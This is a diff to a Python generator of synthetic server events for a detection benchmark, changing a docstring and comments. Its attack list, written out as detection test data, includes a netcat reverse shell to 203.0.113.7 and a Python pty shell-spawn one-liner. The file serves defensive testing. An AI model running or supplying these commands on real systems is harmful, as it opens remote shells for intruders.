@@ -2,7 +2,7 @@
 """Deterministic ECS event corpus for the detection benchmark (bench/detect.sh).
 
 Writes N NDJSON events shaped like `mamori-agent capture` output on a busy server: about 70% exec
-(command lines drawn from a vocabulary of a few hundred real commands and arguments), 20% file
+(command lines from ~160 templates of real commands filled with varied arguments), 20% file
 (creation, modification, deletion, rename) and 10% network (connection attempted / accepted).
 About --hit-rate of the events (default 0.1%) are attacks that SigmaHQ Linux rules detect, so the
 hit path runs too. The same --seed gives the same bytes.
@@ -134,8 +134,8 @@ PARENTS = [
 SBIN = {"systemctl", "sysctl", "logrotate", "ldconfig", "depmod", "nginx", "php-fpm8.2",
         "unattended-upgrade", "blkid", "lsblk", "mount"}
 
-# Attacks SigmaHQ Linux rules detect (each checked against the rules by bench/detect.sh): exec
-# command lines, then file paths written and network peers.
+# Attacks SigmaHQ Linux rules detect (each raised at least one alert with `mamori scan` when this
+# list was written): exec command lines, then files written. A bash connecting out is the third.
 HIT_EXEC = [
     "nc -e /bin/sh 203.0.113.7 4444",
     "python3 -c import pty;pty.spawn(\"/bin/bash\")",
